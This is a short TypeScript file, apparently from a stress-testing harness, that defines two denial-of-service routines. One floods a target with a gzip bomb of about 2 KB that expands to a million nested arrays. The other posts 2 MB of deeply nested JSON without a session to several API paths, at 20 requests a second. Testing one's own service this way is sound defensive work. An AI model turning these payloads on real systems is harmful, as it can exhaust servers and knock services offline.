import { gzipSync } from 'node:zlib';
import { type Attack, repeat, Statuses, send } from '../target.ts';

const JSON_TYPE = { 'Content-Type': 'application/json' };

/** 2 KB of gzip that contain a million nested arrays, sent to a path that does not exist. */
export const compressedBodies: Attack = async (target) => {
  const body = gzipSync('['.repeat(1_000_000) + ']'.repeat(1_000_000));
  const statuses = new Statuses();
  await repeat(target, { atOnce: 20, perSecond: 20 }, async () => {
    statuses.add(await send(target, '/x', { headers: { ...JSON_TYPE, 'Content-Encoding': 'gzip' }, body }));
  });
  return `POST /x with ${body.length} bytes of gzip, 20 a second: ${statuses}`;
};

/** 2 MB of nested arrays, sent without a session to calls that require one. */
export const nestedBodies: Attack = async (target) => {
  const body = '['.repeat(1_000_000) + ']'.repeat(1_000_000);
  const paths = ['/x', '/api/auth/telegram', '/api/assistants', '/api/extension/poll', '/api/extension/link-requests'];
  const statuses = new Statuses();
  await repeat(target, { atOnce: 10, perSecond: 20 }, async (n) => {
    statuses.add(await send(target, paths[n % paths.length] ?? '/x', { headers: JSON_TYPE, body }));
  });
  return `2 MB of nested JSON without a session, 20 a second: ${statuses}`;
};
